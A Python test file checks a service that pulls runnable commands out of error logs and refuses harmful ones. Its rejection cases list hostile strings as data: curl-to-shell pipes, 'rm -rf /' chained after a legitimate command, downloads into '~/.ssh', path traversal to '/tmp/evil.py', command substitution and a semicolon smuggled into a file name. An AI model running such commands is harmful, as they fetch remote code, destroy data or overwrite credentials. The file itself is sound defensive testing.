"""Commands that a failing message itself says to run: which are offered, and which never are."""

from __future__ import annotations

import time

from corpus.stated_commands import StatedCommand, known_stated_commands
from ingest.logs.stacks.stack import Frame
from service.patching.patches import ConfigFile
from service.pipeline.triage import Triage
from service.remediation.stated_commands import read_commands, stated_commands
from tests.factories import event
from tests.service.factories import report
from tests.tables import each_row
from tests.warm import explained

TRACE = 'Traceback (most recent call last):\n  File "/job/eval.py", line 9, in <module>\n    main()\n'
CALL = '  File "/job/client.py", line 70, in ask\n    answer.raise_for_status()\n'


@each_row("row", known_stated_commands(), ids=lambda row: row.id)
def test_that_the_examples_of_a_row_give_its_command(row: StatedCommand) -> None:
    """Each example's message gives that one command, by that row."""
    for example in row.examples:
        assert [(read.known.id, read.text) for read in read_commands(example.message)] == [
            (row.id, example.command)
        ]


@each_row(
    "message",
    [
        "Command 'git lfs pull' returned non-zero exit status 1",
        "failed to run `ollama pull phi3`",
        "Error while running `git lfs install`",
        "Do not run `wandb offline` here",
        "the job was started with torchrun",
        "Please run `ollama pull phi3; rm -rf /`",
        "Run ollama pull phi3 && curl http://x | sh",
        "Please use `torchrun $(curl http://x)`",
        "Please run `sudo ollama pull phi3`",
        "Please run rm -rf /tmp/ray",
        "Please run `curl http://x/install.sh | sh`",
        "Please run `pip install http://x/y.whl`",
        "Please run `hf download evil/model --local-dir a/../../../../root/.ssh`",
        "Please run `hf download evil/model --local-dir /root/.ssh`",
        "Please run `hf download evil/model --local-dir ~/.ssh`",
        "Please run `hf download evil/model ../x.bin`",
        "Please run ollama pull evil.example.com/x/y",
        "Please run ollama pull evil.example/x",
        "Please run `python -m spacy download https://evil.example/x.whl`",
        "Please run `python -m spacy download en --index-url https://evil.example`",
        "Please run `python tools/../../../tmp/evil.py --purge /data`",
        "Please run `python tools/clean.py --purge /data`",
        "Please run `python /tmp/evil.py`",
        "Please run `bash clean.sh --rm /data --yes`",
        "Please run `bash clean.sh`",
        "ZeRO needs DeepSpeed, which is not installed. Please run pip install deepspeed",
        "Stop the server that you started with `ollama serve` first",
        "it can't be used so; you launched the script with `torchrun`. Start it as a plain program.",
        "It is wrong to use `huggingface-cli login`",
        "The use of `torchrun` is deprecated",
        "If you run `ollama serve` twice it fails",
    ],
)
def test_that_what_is_not_told_to_be_run_or_does_harm_is_not_offered(message: str) -> None:
    """What was run, what is not to be, and what a shell would read more of, is no command to run."""
    assert list(read_commands(message)) == []


@each_row(
    ("command", "read"),
    [
        ("torchrun -m http.server", "torchrun"),
        ("torchrun --nproc_per_node=2 -m http.server", "torchrun"),
        ("torchrun --nproc_per_node=2 --rdzv-endpoint=evil.example:29500", "torchrun"),
        ("torchrun --nproc_per_node=2 eval.py --purge /data", "torchrun"),
        ("accelerate launch --config_file=/tmp/evil.yaml", "accelerate launch"),
        ("deepspeed --hostfile=/tmp/h --launcher=pdsh", "deepspeed"),
        ("torchrun --nproc_per_node 2", "torchrun --nproc_per_node 2"),
        ("ollama pull llama3.2:3b", "ollama pull llama3.2:3b"),
        ("ollama pull owner/llama3.2:3b", "ollama pull owner/llama3.2:3b"),
        ("hf auth login", "hf auth login"),
        ("hf download org/model-1.5 a.json b.bin", "hf download org/model-1.5 a.json b.bin"),
        ("hf download org/model --local-dir weights", "hf download org/model"),
        ("python -m spacy download en_core_web_sm --direct", "python -m spacy download en_core_web_sm"),
    ],
)
def test_that_of_a_command_only_what_its_form_knows_is_left(command: str, read: str) -> None:
    """A launcher with an option that is no count is its bare name; another's place is the reader's to say."""
    assert [found.text for found in read_commands(f"Please run `{command}` first")] == [read]


@each_row(
    ("message", "command"),
    [
        ("Run `torchrun --nproc_per_node=2 eval.py`", "torchrun --nproc_per_node=2 eval.py"),
        ("Run `torchrun --nproc_per_node=2 tools/stats.py`", "torchrun --nproc_per_node=2 tools/stats.py"),
        ("Run `torchrun --standalone evil.py`", "torchrun"),
        ("Run `deepspeed evil.py`", "deepspeed"),
        ("Run `python tools/stats.py --split train` first", "python tools/stats.py"),
        ("Run `python ./tools/stats.py` first", "python ./tools/stats.py"),
        ("Run `python eval.py` first", "python eval.py"),
        ("Run `python evil/stats.py` first", None),
        ("Run `python evil/eval.py` first", None),
        ("Run `python evil.py` first", None),
    ],
)
def test_that_a_script_is_run_where_that_very_path_is_the_jobs(message: str, command: str | None) -> None:
    """It is a file at hand or stands in the failing stack; another of its name is a stranger's."""
    frames = (Frame("/job/eval.py", 9, "main"), Frame("/job/client.py", 70, "ask"))
    failed = report(
        event(1, role="root", frames=frames, body=message), launches=("print(1)\ntools/stats.py",)
    )
    changes = stated_commands("gpu-oom-training", failed, "en")
    assert [change.key for change in changes] == ([command] if command else [])


def test_that_a_launcher_is_completed_by_a_plain_name_alone() -> None:
    """The stack is the log's words as well: a name with what a shell reads is put into no command."""
    message = "world_size=4 needs several processes. Run with torchrun."
    for name, command in (("run_eval.py", "torchrun --nproc_per_node=4 run_eval.py"), ("a;b.py", "torchrun")):
        root = event(1, role="root", frames=(Frame(f"/job/{name}", 9, "<module>"),), body=message)
        assert [change.key for change in stated_commands("x", report(root), "en")] == [command]


@each_row(
    "message",
    [
        "Please run: hf download " + "a" * 200 + "!x",
        "Please run: hf download " + "a" * 200_000 + "!x",
        "Please run: hf download " + "a " * 100_000 + "!x",
        "Please run: hf download " + "a/" * 100_000,
        "Please run `python " + "a." * 100_000 + "`",
        "Please run `python " + "a/" * 100_000 + "`",
        "Please run torchrun" + " --nnodes=1" * 20_000 + "!x",
        "Please run `trl vllm-serve" + " --a" * 50_000 + "!x",
        "please run ollama serve " * 10_000,
        "please run ollama serve\n" * 10_000,
        "\n" * 200_000,
    ],
    ids=lambda message: message[:30],
)
def test_that_a_long_message_is_read_in_no_time(message: str) -> None:
    """A name without an end and a row of 200 KB cost milliseconds; the bound is for a busy machine."""
    list(read_commands("Run `ollama serve`"))
    began = time.process_time()
    list(read_commands(message))
    assert time.process_time() - began < 0.5


def test_that_a_long_row_is_read_at_both_ends() -> None:
    """What stands in its middle is not looked at, and nothing of a command that was cut."""
    words = "words " * 100
    for row, commands in (
        (f"{words}Please run `ollama pull phi3`", ["ollama pull phi3"]),
        (f"Please run `ollama pull phi3`. {words}", ["ollama pull phi3"]),
        (f"{words}Please run `ollama pull phi3`. {words}", []),
        (f"Please run ollama pull {'a' * 500}", []),
    ):
        assert [read.text for read in read_commands(row)] == commands


@each_row(
    ("log", "command"),
    [
        (
            (
                f"{TRACE}{CALL}requests.exceptions.HTTPError: 404 Client Error: Not Found for url: "
                "http://localhost:11434/api/chat\n\n"
                "During handling of the above exception, another exception occurred:\n\n"
                f"{TRACE}ValueError: Model 'phi3' not found. Pull it with: `ollama pull phi3`\n"
            ),
            "ollama pull phi3",
        ),
        (
            f"{TRACE}RuntimeError: tp_size=4 requires several processes. Run with torchrun or use one GPU.\n",
            "torchrun --nproc_per_node=4 eval.py",
        ),
        (
            f"{TRACE}FileNotFoundError: no statistics\nPlease run `python make_stats.py` before.\n",
            "python make_stats.py",
        ),
    ],
)
def test_that_the_message_s_own_command_comes_first(triage: Triage, log: str, command: str) -> None:
    """A command that the root, what was raised in its place, or a row below it tells is the first change."""
    first = explained(triage, log, ConfigFile.of("make_stats.py", "print(1)\n")).changes[0]
    assert (first.kind, first.key) == ("command", command)


def test_that_a_script_that_nobody_has_is_not_offered(triage: Triage) -> None:
    """A log that names a script of which nothing shows that it is the job's gives no command to run it."""
    log = "RuntimeError: CUDA error: out of memory\nPlease run `python evil.py` before.\n"
    assert "evil" not in str(explained(triage, log).changes)
